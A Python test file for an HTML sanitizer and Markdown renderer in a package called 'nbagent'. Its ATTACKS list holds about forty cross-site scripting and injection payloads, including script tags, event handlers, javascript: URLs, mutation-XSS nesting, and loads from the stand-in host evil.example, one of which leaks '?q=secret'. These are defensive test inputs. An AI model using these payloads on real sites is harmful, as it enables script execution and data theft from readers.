"""HTML that a reader may meet: nothing runs, nothing is loaded, every element ends."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nbagent.html.allowed import allowed
from nbagent.html.markdown import markdown_html, set_markdown
from nbagent.html.simple_markdown import simple_markdown

PIXEL = "data:image/png;base64,iVBORw0KGgo="
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a><a href='//evil.example'>x</a><a href='/x'>x</a><a href='#x'>x</a>",
    "<a href='https://a.example/\"onmouseover=alert(1)'>x</a>",
    "<p style='background:url(https://evil.example)' onclick=alert(1) id=x name=y class=jp-Cell>x</p>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<img src='https://evil.example/?q=secret'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,AAAA'>",
    "<video src=https://evil.example><source src=https://evil.example></video>",
    "<template><img src=x onerror=alert(1)></template><noscript><p title='</noscript><img src=x onerror=x>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)>",
    "</section></div></details><p>outside</p>",
    "<table><td><div></table></section>x",
    "[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) [z](\x01javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,AAAA)",
    "![x](https://evil.example/?q=secret 'title\" onload=alert(1)')",
    '[x](https://a.example "title\\" onmouseover=alert(1)")',
    "[a]: javascript:alert(1)\n\n[a] ![a]",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>` **<b onclick=x>** # <h1 onclick=x>",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=x>|</table>|",
    "$<img src=x onerror=alert(1)>$ $$</span><script>alert(1)</script>$$ \\(<svg onload=x>\\)",
]
ELEMENTS = re.compile(
    "a|abbr|b|blockquote|br|caption|code|dd|del|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|img|ins|kbd|li|mark|ol"
    "|p|pre|s|samp|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var"
)
ATTRIBUTES = re.compile("align|alt|class|colspan|data-language|href|rel|rowspan|scope|src|start|style")
VOID = {"br", "hr", "img"}


class Judge(HTMLParser):
    """Reads HTML as a browser does, and fails at what must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == [], "an element does not end"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert ELEMENTS.fullmatch(tag)
        for name, value in attrs:
            assert ATTRIBUTES.fullmatch(name)
            assert name != "href" or re.match("(?:https?://|mailto:)", value or "", re.IGNORECASE)
            assert name != "src" or re.match("data:image/(png|jpeg|gif|webp);base64,", value or "")
            assert name != "style" or re.fullmatch("text-align: (left|right|center)", value or "")
            assert name != "class" or re.fullmatch(r"nbagent-(math|wide)|language-[\w+#.-]+", value or "")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(attack: str) -> None:
    """Not from HTML of a result, nor from a model's Markdown, whoever sets it."""
    for html in (allowed(attack)[0], markdown_html(attack), allowed(simple_markdown(attack))[0]):
        Judge(html)


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "<", ">", "&", '"', "`", "|", "*", "$", "x "]), max_size=6))
def test_no_mixture_gets_through(pieces: list[str]) -> None:
    """Attacks beside and within each other."""
    text = "".join(pieces)
    for html in (allowed(text)[0], markdown_html(text), allowed(simple_markdown(text))[0]):
        Judge(html)


@given(st.text(max_size=200))
def test_it_is_the_same_when_it_is_let_through_again(text: str) -> None:
    """What a reader may meet is not changed."""
    once = markdown_html(text)
    Judge(once)
    assert Judge(allowed(once)[0]).text == Judge(once).text


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "<" in attack and "```" not in attack])
def test_html_in_a_models_text_is_text(attack: str) -> None:
    """A reader sees what the model wrote."""
    seen = Judge(markdown_html(f"<b>1</b> {attack}")).text
    assert "<b>1</b>" in seen


def test_a_table_of_a_result_stays_a_table() -> None:
    """With cells that say what they head."""
    html = (
        '<style scoped>x</style><table border="1" class="dataframe"><thead><tr style="text-align: right">'
        "<th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>1 &lt; 2</td></tr></tbody></table>"
    )
    assert allowed(html)[0] == (
        '<table><thead><tr style="text-align: right"><th scope="col"></th><th scope="col">a</th></tr></thead>'
        '<tbody><tr><th scope="row">0</th><td>1 &lt; 2</td></tr></tbody></table>'
    )


def test_pictures_are_in_the_document_or_links() -> None:
    """A picture from elsewhere would tell its server who reads."""
    assert (
        allowed(f'<img src="{PIXEL}" alt="a &quot;b&quot;">')[0]
        == f'<img alt="a &quot;b&quot;" src="{PIXEL}">'
    )
    link = '<a href="https://a.example/x.png" rel="noopener noreferrer">a plot</a>'
    assert markdown_html("![a plot](https://a.example/x.png)") == f"<p>{link}</p>\n"
    inside = markdown_html("[![a plot](https://a.example/x.png)](https://b.example)")
    assert Judge(inside).text.strip() == "a plot (https://a.example/x.png)"
    assert inside.count("<a ") == 1


@given(st.text(alphabet="<>/abtdrp =\"'&;", max_size=60), st.integers(1, 40))
def test_what_is_cut_ends_between_elements(html: str, limit: int) -> None:
    """However little room there is."""
    cut, whole = allowed(f"<table><tr><td>{html}</td></tr></table>", limit=limit)
    Judge(cut)
    assert whole or len(cut) < 6 * limit + 200


def test_prices_are_no_formula() -> None:
    """No text node outside code or a formula has a dollar sign that another could pair with."""
    html = markdown_html("From $5 to $6. `a$b$c` and $x$")
    assert html == (
        "<p>From <span>$</span>5 to <span>$</span>6. <code>a$b$c</code> and "
        '<span class="nbagent-math">$x$</span></p>\n'
    )


def test_mistune_sets_markdown_here() -> None:
    """What is tested beside it is the parser of readers without nbconvert."""
    assert set_markdown() is not simple_markdown
